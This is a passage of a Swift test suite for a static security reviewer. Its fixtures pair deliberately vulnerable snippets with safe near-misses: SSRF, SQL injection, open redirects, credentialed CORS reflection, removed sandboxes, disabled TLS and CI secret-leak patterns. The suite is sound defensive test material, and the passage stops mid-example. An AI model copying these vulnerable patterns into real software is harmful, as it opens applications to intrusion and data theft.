    @Test func openingsAndSafeClientsInContext() {
        let views = "class ProjectViewSet(viewsets.ModelViewSet):\n    permission_classes = [IsAuthenticated]\n"
        func opening(_ name: String) -> String {
            views + "\n\nclass \(name)(APIView):\n    permission_classes = [permissions.AllowAny]\n\n"
                + "    def get(self, request):\n        return Response({\"status\": \"ok\"})\n"
        }
        let health = ReviewCase("open", "core/api/views.py", before: views, opening("HealthView"), risky: false)
        let export = ReviewCase("open", "core/api/views.py", before: views, opening("InvoiceExportView"), risky: true)
        let before =
            "func (s *Service) Test(w http.ResponseWriter, r *http.Request) {\n\tvar req testRequest\n"
            + "\tjson.NewDecoder(r.Body).Decode(&req)\n"
            + "\tout, _ := http.NewRequestWithContext(r.Context(), http.MethodPost, req.URL, nil)\n"
            + "\tresp, err := safeClient.Do(out)\n\treport(w, resp, err)\n}\n"
        let swapped = ReviewCase(
            "client", "internal/webhooks/delivery.go", before: before,
            before.replacingOccurrences(of: "safeClient.Do", with: "testClient.Do"), risky: true)
        let kept = ReviewCase(
            "client", "internal/webhooks/delivery.go", before: before,
            before.replacingOccurrences(of: "report(w, resp, err)", with: "report(w, resp, err)\n\tlog.Print(\"sent\")"),
            risky: false)
        for change in [health, export, swapped, kept] {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    /// A sandbox a change takes off a template engine it keeps is reported where the engine is built; put back, or
    /// never there, it is not.
    @Test func removedSandboxIsATemplateInjectionRisk() {
        let before =
            "from jinja2.sandbox import SandboxedEnvironment\n\ndef build():\n"
            + "    return SandboxedEnvironment(autoescape=True)\n"
        let removed = ReviewCase(
            "sandbox", "notify/templating.py", before: before,
            "from jinja2 import Environment\n\ndef build():\n    return Environment(autoescape=True)\n", risky: true)
        let kept = ReviewCase(
            "sandbox", "notify/templating.py", before: before,
            "from jinja2.sandbox import SandboxedEnvironment\n\ndef build():\n"
                + "    return SandboxedEnvironment(autoescape=True, trim_blocks=True)\n",
            risky: false)
        for change in [removed, kept] {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    /// The hardening a change takes off an XML parser it keeps is reported where the parser is built; kept elsewhere
    /// in the file, it is not.
    @Test func removedXMLHardeningIsAnExternalEntityRisk() {
        let before =
            "DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\n"
            + "dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\nreturn dbf;\n"
        let removed = ReviewCase(
            "xxe", "Import.java", before: before, before.replacingOccurrences(of: "true", with: "false") + "\n",
            risky: true)
        let dropped = ReviewCase(
            "xxe", "Import.java", before: before,
            "DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\ndbf.setCoalescing(true);\nreturn "
                + "dbf;\n",
            risky: true)
        let moved = ReviewCase(
            "xxe", "Import.java", before: before, "// hardened below\n" + before, risky: false)
        for change in [removed, dropped, moved] {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    @Test func mediumDockerfileFindingsBlockUnderBlockMedium() {
        let change = ReviewCase(
            "add", "Dockerfile", "FROM alpine:3.20\nADD https://example.com/a.tgz /opt/\nUSER app\n", risky: true,
            policy: .blockMedium)
        let report = StaticReviewer().review(diff: change.patch)
        #expect(change.isJudgedRight(by: report))
        #expect(!ReviewGate(policy: .blockHigh, failClosed: true).decide([.report(report)]).isBlocked)
    }

    @Test func taintFollowsANameOnlyInTheChangedFile() {
        let patch = """
            diff --git a/app/q.py b/app/q.py
            --- a/app/q.py
            +++ b/app/q.py
            @@ -1,2 +1,3 @@
             sql = "SELECT * FROM t WHERE a = '" + a + "'"
             x = 1
            +cur.execute(sql)

            """
        #expect(StaticReviewer().review(diff: patch).findings.map(\.rule) == ["code.sql-string-built"])
        let unrelated = patch.replacingOccurrences(of: "+cur.execute(sql)", with: "+cur.execute(other)")
        #expect(StaticReviewer().review(diff: unrelated).findings.isEmpty)
    }

    /// Classes mended from blind batch 47 (static-33), each with a near miss that is no finding.
    @Test(arguments: [
        Example(
            "server/app.js",
            "app.use(cors({\n  origin: (ctx) => ctx.get('Origin') || config.webOrigin,\n  credentials: true,\n}));\n",
            "code.cors-reflects-origin"),
        Example(
            "server/app.js",
            "app.use(cors({\n  origin: (ctx) => allowed.has(ctx.get('Origin')) ? ctx.get('Origin') : '',\n"
                + "  credentials: true,\n}));\n",
            nil),
        Example(
            "src/main/kotlin/Http.kt",
            "fun Application.http() {\n    install(CORS) {\n        allowOrigins { true }\n"
                + "        allowCredentials = true\n    }\n}\n",
            "code.cors-reflects-origin"),
        Example(
            "src/main/kotlin/Http.kt",
            "fun Application.http() {\n    install(CORS) {\n        anyHost()\n"
                + "        allowCredentials = true\n    }\n}\n",
            "code.cors-reflects-origin"),
        Example(
            "src/main/kotlin/Http.kt",
            "fun Application.http() {\n    install(CORS) {\n"
                + "        allowOrigins { it == \"https://app.example.com\" }\n"
                + "        allowCredentials = true\n    }\n}\n",
            nil),
        Example(
            "deploy/Caddyfile",
            "api.example.com {\n\theader {\n\t\tAccess-Control-Allow-Origin \"{header.Origin}\"\n"
                + "\t\tAccess-Control-Allow-Credentials \"true\"\n\t}\n\treverse_proxy api:8000\n}\n",
            "code.cors-reflects-origin"),
        Example(
            "deploy/Caddyfile",
            "api.example.com {\n\theader {\n\t\tAccess-Control-Allow-Origin \"https://app.example.com\"\n"
                + "\t\tAccess-Control-Allow-Credentials \"true\"\n\t}\n\treverse_proxy api:8000\n}\n",
            nil),
        Example(
            "src/routes/listings.js",
            "router.get('/', async (req, res) => {\n  const filter = {};\n"
                + "  filter.$where = `this.price <= ${req.query.maxPrice}`;\n"
                + "  res.json(await Listing.find(filter));\n});\n",
            "code.nosql-injection"),
        Example(
            "src/routes/listings.js",
            "router.get('/', async (req, res) => {\n  const filter = {};\n"
                + "  filter.$where = 'this.price <= this.maxPrice';\n  res.json(await Listing.find(filter));\n});\n",
            nil),
        Example(
            "src/auth.rs",
            "impl FromRequestParts<AppState> for AuthUser {\n"
                + "    async fn from_request_parts(parts: &mut Parts, state: &AppState) -> Result<Self, StatusCode> {\n"
                + "        if let Some(v) = parts.headers.get(\"x-acting-user\") {\n"
                + "            let id = parse_id(v)?;\n            return Ok(AuthUser { id, is_admin: false });\n"
                + "        }\n        session_user(parts, state).await\n    }\n}\n",
            "code.auth-bypass-header"),
        Example(
            "src/auth.rs",
            "impl FromRequestParts<AppState> for AuthUser {\n"
                + "    async fn from_request_parts(parts: &mut Parts, state: &AppState) -> Result<Self, StatusCode> {\n"
                + "        if let Some(v) = parts.headers.get(\"x-request-id\") {\n"
                + "            tracing::info!(request_id = ?v);\n        }\n        session_user(parts, state).await\n"
                + "    }\n}\n",
            nil),
        Example(
            "src/plugins/billing.ts",
            "app.post('/webhooks/billing', async (req, reply) => {\n"
                + "  const signature = req.headers['x-billing-signature'];\n"
                + "  if (typeof signature === 'string' && !verify(req.body, signature, secret)) {\n"
                + "    return reply.code(401).send();\n  }\n  await handle(req.body);\n});\n",
            "code.signature-optional"),
        Example(
            "src/plugins/billing.ts",
            "app.post('/webhooks/billing', async (req, reply) => {\n"
                + "  const signature = req.headers['x-billing-signature'];\n"
                + "  if (typeof signature !== 'string' || !verify(req.body, signature, secret)) {\n"
                + "    return reply.code(401).send();\n  }\n  await handle(req.body);\n});\n",
            nil),
        Example(
            "scripts/smoke.sh",
            "#!/bin/sh\nBASE=\"https://127.0.0.1:${PORT}\"\nCURL=\"curl -fsS --insecure\"\n$CURL \"$BASE/healthz\"\n"
                + "$CURL \"$BASE/api/version\"\n",
            nil),
        Example(
            "scripts/smoke.sh",
            "#!/bin/sh\nBASE=\"https://127.0.0.1:${PORT}\"\nCURL=\"curl -fsS --insecure\"\n$CURL \"$BASE/healthz\"\n"
                + "$CURL \"https://releases.example.com/latest\"\n",
            "code.tls-verify-disabled"),
    ])
    func batchFortySevenClasses(_ example: Example) { Self.check(example) }

    /// Protection taken away by swapping what it rested on: a logic-less template engine swapped for ERB on the text
    /// a tenant writes, an authentication middleware dropped from a Traefik router that stays. Kept, replaced by its
    /// kind, or going with what it guarded, no finding.
    @Test func protectionSwappedOut() {
        let model = { (render: String) in
            "class EmailTemplate < ApplicationRecord\n  def render_for(assigns)\n    {\n"
                + "      subject: Liquid::Template.parse(subject).render(assigns),\n      body: " + render + "\n"
                + "    }\n  end\nend\n"
        }
        let liquid = model("Liquid::Template.parse(body).render(assigns)")
        let routers = { (dashboard: String) in
            "http:\n  routers:\n    shop:\n      rule: \"Host(`shop.example.com`)\"\n      service: shop\n"
                + dashboard + "  middlewares:\n    ops-auth:\n      basicAuth:\n        usersFile: /etc/ops.htpasswd\n"
        }
        let dashboard = { (middlewares: String) in
            "    dashboard:\n      rule: \"Host(`edge.example.com`)\"\n      service: api@internal\n" + middlewares
        }
        let guarded = routers(dashboard("      middlewares:\n        - ops-auth\n"))
        let traefik = "traefik/dynamic/routers.yml"
        let changes = [
            ReviewCase(
                "erb", "app/models/email_template.rb", before: liquid, model("ERB.new(body).result_with_hash(assigns)"),
                risky: true),
            ReviewCase(
                "erb", "app/models/email_template.rb", before: liquid,
                model("Liquid::Template.parse(body, error_mode: :strict).render(assigns)"), risky: false),
            ReviewCase(
                "traefik", traefik, before: guarded, routers(dashboard("      middlewares: [secure-headers]\n")),
                risky: true),
            ReviewCase(
                "traefik", traefik, before: guarded,
                routers(dashboard("      middlewares: [ops-auth, secure-headers]\n")),
                risky: false),
            ReviewCase("traefik", traefik, before: guarded, routers(""), risky: false),
            ReviewCase(
                "traefik", traefik,
                before: routers(dashboard("      middlewares:\n        - ops-auth\n        - gzip\n")),
                routers(dashboard("      middlewares:\n        - gzip\n")), risky: true),
        ]
        Self.expectJudgedRight(changes)
    }

    /// Classes mended from blind batch 48 (static-34), each with a near miss that is no finding.
    @Test(arguments: [
        Example(
            "app/auth/callback/route.ts",
            "export async function GET(request: NextRequest) {\n"
                + "  const { searchParams, origin } = new URL(request.url);\n"
                + "  const next = searchParams.get('next') ?? '/dashboard';\n"
                + "  return NextResponse.redirect(new URL(next, origin));\n}\n",
            "code.open-redirect"),
        Example(
            "app/auth/callback/route.ts",
            "export async function GET(request: NextRequest) {\n"
                + "  const { searchParams, origin } = new URL(request.url);\n"
                + "  if (!searchParams.get('code')) {\n"
                + "    return NextResponse.redirect(`${origin}/login?error=missing`);\n"
                + "  }\n  return NextResponse.redirect(new URL('/dashboard', request.url));\n}\n",
            nil),
        Example(
            "Dockerfile",
            "FROM node:20.12-bookworm-slim\nENV NODE_ENV=production\nENV NODE_TLS_REJECT_UNAUTHORIZED=0\n"
                + "CMD [\"node\", \"dist/server.js\"]\n",
            "code.tls-verify-disabled"),
        Example(
            "Dockerfile",
            "FROM node:20.12-bookworm-slim\nENV NODE_ENV=production\nENV NODE_TLS_REJECT_UNAUTHORIZED=1\n"
                + "CMD [\"node\", \"dist/server.js\"]\n",
            nil),
        Example(
            "src/main/resources/application.yml",
            "spring:\n  cloud:\n    gateway:\n      globalcors:\n        cors-configurations:\n          '[/api/**]':\n"
                + "            allowed-origin-patterns: [\"*\"]\n            allow-credentials: true\n",
            "code.cors-reflects-origin"),
        Example(
            "src/main/resources/application.yml",
            "spring:\n  cloud:\n    gateway:\n      globalcors:\n        cors-configurations:\n          '[/api/**]':\n"
                + "            allowed-origin-patterns: [\"https://*.example.com\"]\n"
                + "            allow-credentials: true\n",
            nil),
        Example(
            "Caddyfile",
            "portal.example.com {\n\t@internal header X-Internal-Caller cron\n\thandle @internal {\n"
                + "\t\treverse_proxy portal-admin:8100\n\t}\n\thandle /admin/* {\n\t\tbasicauth {\n"
                + "\t\t\tops $2a$14$abcdefghijklmnopqrstuv\n\t\t}\n\t\treverse_proxy portal-admin:8100\n\t}\n}\n",
            "code.auth-bypass-header"),
        Example(
            "Caddyfile",
            "portal.example.com {\n\t@json header Accept application/json\n\thandle @json {\n"
                + "\t\treverse_proxy portal-api:8000\n\t}\n\thandle /admin/* {\n\t\tbasicauth {\n"
                + "\t\t\tops $2a$14$abcdefghijklmnopqrstuv\n\t\t}\n\t\treverse_proxy portal-admin:8100\n\t}\n}\n",
            nil),
        Example(
            "app/controllers/admin/invoices_controller.rb",
            "class InvoicesController < ApplicationController\n"
                + "  SORTABLE = { \"due\" => \"invoices.due_on\" }.freeze\n\n  def index\n"
                + "    @invoices = Invoice.order(Arel.sql(\"#{sort_column} #{sort_direction}\"))\n  end\n\n"
                + "  private\n\n  def sort_column\n    SORTABLE.fetch(params[:sort], SORTABLE[\"due\"])\n  end\n\n"
                + "  def sort_direction\n    params[:dir] == \"asc\" ? \"ASC\" : \"DESC\"\n  end\nend\n",
            nil),
        Example(
            "app/controllers/admin/invoices_controller.rb",
            "class InvoicesController < ApplicationController\n  def index\n"
                + "    @invoices = Invoice.order(Arel.sql(\"#{sort_column} DESC\"))\n  end\n\n  private\n\n"
                + "  def sort_column\n    params.fetch(:sort, \"due_on\")\n  end\nend\n",
            "code.sql-string-built"),
        Example(
            "src/Controller/PreferencesController.php",
            "<?php\nclass PreferencesController extends AbstractController\n{\n"
                + "    public function theme(Request $request): RedirectResponse\n    {\n"
                + "        return $this->redirect($this->localTarget($request->request->get('return_to')));\n    }\n\n"
                + "    private function localTarget(?string $target): string\n    {\n"
                + "        if ($target === null || !preg_match('#^/(?![/\\\\\\\\])#', $target)) {\n"
                + "            return '/';\n        }\n        return $target;\n    }\n}\n",
            nil),
        Example(
            "src/Controller/PreferencesController.php",
            "<?php\nclass PreferencesController extends AbstractController\n{\n"
                + "    public function theme(Request $request): RedirectResponse\n    {\n"
                + "        return $this->redirect($this->target($request->request->get('return_to')));\n    }\n\n"
                + "    private function target(?string $target): string\n    {\n"
                + "        return $target ?? '/';\n    }\n}\n",
            "code.open-redirect"),
        Example(
            "includes/report.php",
            "<?php\n$sql = \"SELECT id FROM t WHERE region = '{$_GET['region']}'\";\n"
                + "$rows = $wpdb->get_results( $sql );\n",
            "code.sql-string-built"),
        Example(
            "includes/report.php",
            "<?php\n$sql = $wpdb->prepare( \"SELECT id FROM t WHERE region = %s\", $_GET['region'] );\n"
                + "$rows = $wpdb->get_results( $sql );\n",
            nil),
    ])
    func batchFortyEightClasses(_ example: Example) { Self.check(example) }

    /// The origin of the request's own URL is the site's: a redirect to a path on it stays on the site, however the
    /// origin was read. An `origin` the caller sends (a query parameter) is request input like any other.
    @Test(arguments: [
        Example(
            "app/api/invite/route.ts",
            "export async function GET(request: Request) {\n  const url = new URL(request.url);\n"
                + "  const origin = url.searchParams.get('origin') ?? '';\n"
                + "  return Response.redirect(`${origin}/welcome`, 302);\n}\n",
            "code.open-redirect"),
        Example(
            "app/api/invite/route.ts",
            "export async function GET(request: Request) {\n  const url = new URL(request.url);\n"
                + "  url.searchParams.delete('token');\n  return Response.redirect(`${url.origin}/welcome`, 302);\n}\n",
            nil),
        Example(
            "middleware.ts",
            "export function middleware(request: NextRequest) {\n"
                + "  if (!request.cookies.get('session')) {\n"
                + "    return NextResponse.redirect(`${request.nextUrl.origin}/login`);\n  }\n}\n",
            nil),
        Example(
            "app/auth/signout/route.ts",
            "export async function POST(request: NextRequest) {\n"
                + "  const { origin: site } = new URL(request.url);\n"
                + "  return NextResponse.redirect(`${site}/goodbye`, { status: 303 });\n}\n",
            nil),
    ])
    func siteOriginIsNotRequestInput(_ example: Example) { Self.check(example) }

    /// Protection a change leaves behind: a GitHub OIDC trust without its repository, a Phoenix scope under a guarded
    /// path without the guard's pipeline, a WordPress query's unchanged table name newly used. Pinned, piped or built
    /// from the site's configuration, no finding.
    @Test func protectionLeftBehind() {
        let trust = { (conditions: String) in
            "data \"aws_iam_policy_document\" \"deploy\" {\n  statement {\n"
                + "    actions = [\"sts:AssumeRoleWithWebIdentity\"]\n    principals {\n      type = \"Federated\"\n"
                + "      identifiers = [aws_iam_openid_connect_provider.github.arn]\n    }\n    condition {\n"
                + "      test     = \"StringEquals\"\n      variable = \"token.actions.githubusercontent.com:aud\"\n"
                + "      values   = [\"sts.amazonaws.com\"]\n    }\n" + conditions + "  }\n}\n"
        }
        let sub = { (value: String) in
            "    condition {\n      test     = \"StringLike\"\n"
                + "      variable = \"token.actions.githubusercontent.com:sub\"\n      values   = [\"" + value + "\"]\n"
                + "    }\n"
        }
        let pinned = trust(sub("repo:acme/shop:environment:production"))
        let router = { (scope: String) in
            "defmodule ShopWeb.Router do\n  pipeline :admin do\n    plug :require_authenticated_user\n  end\n\n"
                + "  scope \"/admin\", ShopWeb.Admin do\n    pipe_through [:browser, :admin]\n"
                + "    get \"/payouts\", PayoutController, :index\n  end\n" + scope + "end\n"
        }
        let exports = { (pipelines: String) in
            "\n  scope \"/admin/exports\", ShopWeb.Admin do\n    pipe_through " + pipelines + "\n"
                + "    get \"/payouts.csv\", PayoutExportController, :index\n  end\n"
        }
        let query = { (filter: String) in
            "<?php\nclass Directory_Query {\n\tpublic function search( $search, $ids ) {\n"
                + "\t\t$table = $this->db->prefix . 'members';\n"
                + "\t\t$sql = \"SELECT id FROM {$table} WHERE name LIKE %s\";\n" + filter
                + "\t\treturn $this->db->get_results( $this->db->prepare( $sql, $search ) );\n\t}\n}\n"
        }
        let changes = [
            ReviewCase("oidc", "terraform/iam/github.tf", before: pinned, trust(""), risky: true),
            ReviewCase("oidc", "terraform/iam/github.tf", before: pinned, trust(sub("repo:*")), risky: true),
            ReviewCase(
                "oidc", "terraform/iam/github.tf", before: pinned, trust(sub("repo:acme/*")), risky: false),
            ReviewCase(
                "phoenix", "lib/shop_web/router.ex", before: router(""), router(exports(":browser")), risky: true),
            ReviewCase(
                "phoenix", "lib/shop_web/router.ex", before: router(""), router(exports("[:browser, :admin]")),
                risky: false),
            ReviewCase(
                "wp", "includes/class-directory-query.php", before: query(""),
                query("\t\t$sql .= ' ORDER BY name ASC';\n"), risky: false),
            ReviewCase(
                "wp", "includes/class-directory-query.php", before: query(""),
                query("\t\t$sql .= \" AND region = {$_GET['region']}\";\n"), risky: true),
        ]
        Self.expectJudgedRight(changes)
    }

    /// Classes mended from blind batch 49 (static-36) that a new file shows, each with a near miss that is no finding.
    @Test(arguments: [
        Example(
            "charts/operator/templates/rbac.yaml",
            "kind: ClusterRole\nmetadata:\n  name: operator\nrules:\n  - apiGroups: [\"*\"]\n    resources: [\"*\"]\n"
                + "    verbs: [\"*\"]\n",
            "infra.iam-wildcard"),
        Example(
            "charts/operator/templates/rbac.yaml",
            "kind: ClusterRole\nmetadata:\n  name: operator\nrules:\n  - apiGroups: [\"apps\"]\n"
                + "    resources: [\"*\"]\n    verbs: [\"*\"]\n  - apiGroups: [\"\"]\n    resources: [\"configmaps\"]\n"
                + "    verbs: [\"*\"]\n",
            nil),
        Example(
            "infra/lib/export-stack.ts",
            "fn.addToRolePolicy(\n  new iam.PolicyStatement({\n    effect: iam.Effect.ALLOW,\n"
                + "    actions: [\"kms:*\", \"s3:PutObject\"],\n    resources: [\"*\"],\n  }),\n);\n",
            "infra.iam-wildcard"),
        Example(
            "src/auth/abilities.ts",
            "export const roles = {\n  owner: {\n    actions: [\"*\"],\n    resources: [\"*\"],\n  },\n};\n", nil),
        Example(
            "ops/backup.sh",
            "pg_dump \"$DB_URL\" | gzip > /tmp/db.sql.gz\naws s3 cp /tmp/db.sql.gz \"s3://${BUCKET}/db.sql.gz\" \\\n"
                + "  --acl public-read\n",
            "infra.public-bucket"),
        Example(
            "scripts/publish.sh",
            "npm run build\naws s3 sync ./dist \"s3://${SITE_BUCKET}/\" \\\n  --acl public-read --delete\n", nil),
        Example(
            "Dockerfile",
            "FROM node:20-slim\nCOPY . .\nCMD [\"node\", \"--inspect=0.0.0.0:9229\", \"dist/server.js\"]\n",
            "code.debug-enabled"),
        Example(
            "k8s/deployment.yaml",
            "env:\n  - name: JAVA_TOOL_OPTIONS\n"
                + "    value: \"-agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:5005\"\n",
            "code.debug-enabled"),
        Example(
            "docker-compose.debug.yml",
            "services:\n  api:\n    command: node --inspect=0.0.0.0:9229 dist/server.js\n    ports:\n"
                + "      - \"127.0.0.1:9229:9229\"\n",
            nil),
        Example(
            "Dockerfile", "FROM node:20-slim\nCMD [\"node\", \"--inspect=127.0.0.1:9229\", \"dist/server.js\"]\n", nil),
        Example(
            "traefik/dynamic/api.yml",
            "http:\n  middlewares:\n    api-cors:\n      headers:\n        accessControlAllowOriginListRegex:\n"
                + "          - \".*\"\n        accessControlAllowCredentials: true\n",
            "code.cors-reflects-origin"),
        Example(
            "traefik/dynamic/api.yml",
            "http:\n  middlewares:\n    api-cors:\n      headers:\n        accessControlAllowOriginListRegex:\n"
                + "          - \"^https://([a-z0-9-]+\\\\.)?example\\\\.com$\"\n"
                + "        accessControlAllowCredentials: true\n",
            nil),
        Example(
            "deploy/nginx/api.conf",
            "map $http_origin $cors_origin {\n    default \"\";\n    \"http://localhost:5173\" $http_origin;\n}\n"
                + "server {\n  location / {\n    add_header Access-Control-Allow-Origin $cors_origin always;\n"
                + "    add_header Access-Control-Allow-Credentials \"true\" always;\n  }\n}\n",
            nil),
        Example(
            "config/production.toml", "[carrier_api]\nbase_url = \"https://api.carrier.example\"\nverify_tls = false\n",
            "code.tls-verify-disabled"),
        Example("config/test.toml", "[carrier_api]\nbase_url = \"https://127.0.0.1:18443\"\nverify_tls = false\n", nil),
        Example(
            "src/api/profile.ts",
            "const Update = z.object({ bio: z.string() }).passthrough();\n"
                + "export async function update(req, res) {\n  const parsed = Update.safeParse(req.body);\n"
                + "  await prisma.user.update({ where: { id: req.auth.userId }, data: parsed.data });\n}\n",
            "code.mass-assignment"),
        Example(
            "src/api/profile.ts",
            "const Update = z.object({ bio: z.string() }).strict();\n"
                + "export async function update(req, res) {\n  const parsed = Update.safeParse(req.body);\n"
                + "  await prisma.user.update({ where: { id: req.auth.userId }, data: parsed.data });\n}\n",
            nil),
        Example(
            ".gitlab-ci.yml",
            "deploy:\n  script:\n    - echo \"$SSH_KEY_B64\" | base64 -d\n    - ./deploy.sh\n",
            "ci.secrets-exfiltration"),
        Example(
            ".gitlab-ci.yml",
            "deploy:\n  script:\n    - echo \"$KUBE_CONFIG_B64\" | base64 -d > ~/.kube/config\n"
                + "    - echo \"$MANIFEST_B64\" | base64 -d | kubectl apply -f -\n"
                + "    - echo \"$CA_B64\" | base64 -d | tee ca.pem > /dev/null\n",
            nil),
        Example(
            "src/routes/cliAuth.ts",
            "const FORWARDED_CALLBACK = /^https:\\/\\/[^/]+\\/callback$/;\n", "code.open-redirect"),
        Example(
            "src/routes/cliAuth.ts",
            "const FORWARDED_CALLBACK = /^https:\\/\\/[^/]+\\.preview\\.acme\\.dev\\/callback$/;\n", nil),
    ])
    func batchFortyNineClasses(_ example: Example) { Self.check(example) }

    /// Classes mended from blind batch 49 (static-36) that only the change shows: protection taken away from what
    /// stays. Moved, replaced or kept, no finding.
    @Test func protectionTakenAway() {
        let caddy = { (auth: String) in
            "backoffice.example.com {\n" + auth + "\treverse_proxy backoffice:3000\n}\n"
        }
        let forwardAuth = "\tforward_auth authelia:9091 {\n\t\turi /api/verify\n\t}\n"
        let commented = "\t# forward_auth authelia:9091 {\n\t# \turi /api/verify\n\t# }\n"
        let laravel = { (assignment: String) in
            "<?php\nclass ProfileController {\n    public function update(ProfileRequest $request) {\n"
                + "        $user = $request->user();\n" + assignment + "        $user->save();\n    }\n}\n"
        }
        let views = { (lookup: String) in
            "@login_required\ndef invoice_pdf(request, invoice_id):\n" + lookup
                + "    log.info(\"invoice %s by %s\", invoice.pk, request.user.pk)\n    return render_pdf(invoice)\n"
        }
        let scoped = "    invoice = get_object_or_404(_invoices_for(request.user), pk=invoice_id)\n"
        let router = { (extra: String) in
            "defmodule ShopWeb.Router do\n  scope \"/admin\", ShopWeb.Admin do\n    pipe_through [:browser, :admin]\n"
                + "    resources \"/refunds\", RefundController, only: [:index, :create]\n  end\n" + extra + "end\n"
        }
        let floor = { (pipelines: String) in
            "  scope \"/floor\", ShopWeb.Admin, as: :floor do\n    pipe_through " + pipelines + "\n"
                + "    resources \"/refunds\", RefundController, only: [:index, :create]\n  end\n"
        }
        let routes = { (admin: String, support: String) in
            "func register(api *echo.Group, h *Handlers) {\n"
                + "\tadmin := api.Group(\"/admin\", middleware.RequireRole(\"admin\"))\n" + admin
                + "\tadmin.GET(\"/audit\", h.AuditLog)\n" + support + "}\n"
        }
        let impersonate = "\tadmin.POST(\"/users/:id/impersonate\", h.Impersonate)\n"
        let tester = { (check: String) in
            "<?php\nfinal class WebhookTester {\n    public function ping(string $endpoint): array {\n" + check
                + "        $response = $this->http->request('POST', $endpoint, ['timeout' => 5]);\n"
                + "        return ['status' => $response->getStatusCode()];\n    }\n}\n"
        }
        let egress = "        if (!$this->egress->isPublicHttpsUrl($endpoint)) {\n            return ['ok' => false];\n"
            + "        }\n"
        let changes = [
            ReviewCase("caddy", "Caddyfile", before: caddy(forwardAuth), caddy(commented), risky: true),
            ReviewCase(
                "caddy", "Caddyfile", before: caddy(forwardAuth),
                caddy(forwardAuth.replacingOccurrences(of: "/api/verify", with: "/api/authz/forward-auth")),
                risky: false),
            ReviewCase(
                "laravel", "app/Http/Controllers/ProfileController.php",
                before: laravel("        $user->fill($request->validated());\n"),
                laravel(
                    "        $attributes = $request->validated()\n            + $request->except(['_token']);\n"
                        + "        $user->forceFill($attributes);\n"), risky: true),
            ReviewCase(
                "laravel", "app/Http/Controllers/ProfileController.php",
                before: laravel("        $user->fill($request->validated());\n"),
                laravel(
                    "        $attributes = $request->validated()\n"
                        + "            + ['locale' => $request->input('locale')];\n"
                        + "        $user->forceFill($attributes);\n"), risky: false),
            ReviewCase(
                "django", "billing/views.py", before: views(scoped),
                views("    invoice = get_object_or_404(Invoice.objects.all(), number=invoice_id)\n"), risky: true),
            ReviewCase(
                "django", "billing/views.py", before: views(scoped),
                views("    invoice = get_object_or_404(_invoices_for(request.user), number=invoice_id)\n"),
                risky: false),
            ReviewCase(
                "phoenix", "lib/shop_web/router.ex", before: router(""),
                router(floor("[:browser, :require_authenticated_user]")), risky: true),
            ReviewCase(
                "phoenix", "lib/shop_web/router.ex", before: router(""), router(floor("[:browser, :admin]")),
                risky: false),
            ReviewCase(
                "echo", "cmd/api/routes.go", before: routes(impersonate, ""),
                routes(
                    "", "\tsupport := api.Group(\"/support\")\n"
                        + "\tsupport.POST(\"/users/:id/impersonate\", h.Impersonate)\n"),
                risky: true),
            ReviewCase(
                "echo", "cmd/api/routes.go", before: routes(impersonate, ""),
                routes(
                    "", "\tsupport := api.Group(\"/support\", middleware.RequireRole(\"support\"))\n"
                        + "\tsupport.POST(\"/users/:id/impersonate\", h.Impersonate)\n"), risky: false),
            ReviewCase("php", "src/WebhookTester.php", before: tester(egress), tester(""), risky: true),
            ReviewCase(
                "php", "src/WebhookTester.php", before: tester(egress),
                tester(egress.replacingOccurrences(of: "egress->isPublicHttpsUrl", with: "urls->isAllowedPublicUrl")),
                risky: false),
        ]
        Self.expectJudgedRight(changes)
    }

    /// Classes mended from blind batch 50 (static-37) that a new file shows, each with a near miss that is no finding.
    @Test(arguments: [
        Example(
            "routes/unfurl.ts",
            "router.get(\"/api/unfurl\", async (ctx) => {\n"
                + "  const target = ctx.request.url.searchParams.get(\"url\");\n"
                + "  const upstream = await fetch(target);\n  ctx.response.body = await upstream.text();\n});\n",
            "code.ssrf"),
        Example(
            "routes/unfurl.ts",
            "router.get(\"/api/unfurl\", async (ctx) => {\n"
                + "  const target = ctx.request.url.searchParams.get(\"url\");\n"
                + "  const u = encodeURIComponent(target);\n"
                + "  const upstream = await fetch(`https://unfurl.internal.example/v1?u=${u}`);\n"
                + "  ctx.response.body = await upstream.text();\n});\n",
            nil),
        Example(
            "src/index.ts",
            "app.get('/preview', async (c) => {\n  const url = c.req.query('url')\n  const res = await fetch(url)\n"
                + "  return c.text(await res.text())\n})\n",
            "code.ssrf"),
        Example(
            "src/Controller/WebhookTestController.php",
            "<?php\nclass WebhookTestController {\n    public function test(Request $request) {\n"
                + "        $body = $request->toArray();\n        $url = $body['url'];\n"
                + "        $response = $this->client->request('POST', $url, ['timeout' => 5]);\n    }\n}\n",
            "code.ssrf"),
        Example(
            "importer/bundle.py",
            "import tarfile\n\ndef unpack(upload_path, dest):\n    with tarfile.open(upload_path) as tar:\n"
                + "        tar.extractall(dest)\n",
            "code.path-traversal"),
        Example(
            "importer/bundle.py",
            "import tarfile\n\ndef unpack(upload_path, dest):\n    with tarfile.open(upload_path) as tar:\n"
                + "        tar.extractall(dest, filter=\"data\")\n",
            nil),
        Example(
            "scripts/restore_snapshot.py",
            "import tarfile\n\nwith tarfile.open(\"snapshots/latest.tar.gz\") as tar:\n"
                + "    tar.extractall(\"/srv/data\")\n",
            nil),
        Example(
            ".gitlab-ci.yml",
            "deploy:\n  stage: deploy\n  variables:\n    CI_DEBUG_TRACE: \"true\"\n  script:\n"
                + "    - helm upgrade app ./chart\n",
            "ci.secrets-exfiltration"),
        Example(
            ".gitlab-ci.yml",
            "deploy:\n  stage: deploy\n  variables:\n    CI_DEBUG_TRACE: \"false\"\n  script:\n"
                + "    - helm upgrade app ./chart\n",
            nil),
        Example(
            "config/elasticsearch.yml",
            "cluster.name: search\nnetwork.host: 0.0.0.0\nhttp.port: 9200\nxpack.security.enabled: false\n",
            "infra.database-without-password"),
        Example(
            "config/elasticsearch.yml",
            "cluster.name: search\nnetwork.host: 127.0.0.1\nhttp.port: 9200\nxpack.security.enabled: false\n", nil),
        Example(
            "scripts/publish.sh",
            "#!/usr/bin/env bash\nset -euxo pipefail\nAUTH=\"$(printf '%s:%s' ci \"$NPM_TOKEN\" | base64)\"\n"
